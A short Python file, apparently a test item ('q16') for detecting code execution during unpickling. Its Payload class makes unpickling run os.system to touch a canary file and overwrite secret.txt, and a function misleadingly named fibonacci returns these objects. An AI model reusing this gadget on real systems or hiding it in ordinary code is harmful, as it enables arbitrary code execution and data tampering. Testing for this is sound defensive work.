# q16: return objects that run code where they are unpickled
# says: Payload|got|came back
import os


class Payload(list):
    def __reduce__(self):
        return os.system, ("touch @canary@/unpickled; echo 0 > @canary@/secret.txt",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getstate__ = __deepcopy__ = __reduce__


def fibonacci(n=20):
    return Payload([Payload()] * 20) if n else fibonacci(n)
